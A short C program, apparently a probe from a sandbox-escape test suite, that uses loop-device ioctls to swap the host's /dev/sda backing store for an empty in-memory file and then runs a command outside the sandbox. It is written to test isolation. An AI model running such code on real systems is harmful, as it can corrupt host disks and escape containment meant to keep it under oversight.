// Puts a disk of its own behind the host's loop device, and executes the command outside.
#include "cheat.h"
#include <linux/fs.h>
#include <linux/loop.h>
#include <sys/mman.h>

int main(int argc, char **argv) {
    (void)argc;
    int disk = open("/dev/sda", O_RDONLY), own = memfd_create("own", 0);
    unsigned long long size = 0;
    struct loop_info64 about = {0};
    ioctl(disk, BLKGETSIZE64, &size);
    if (ftruncate(own, size)) return 1;
    fprintf(stderr, "LOOP_CHANGE_FD %d\n", ioctl(disk, LOOP_CHANGE_FD, own));
    fprintf(stderr, "LOOP_SET_STATUS64 %d\n", ioctl(disk, LOOP_SET_STATUS64, &about));
    fprintf(stderr, "LOOP_SET_CAPACITY %d\n", ioctl(disk, LOOP_SET_CAPACITY, 0));
    fprintf(stderr, "LOOP_CLR_FD %d\n", ioctl(disk, LOOP_CLR_FD, 0));
    close(disk);
    return run_outside(argv);
}
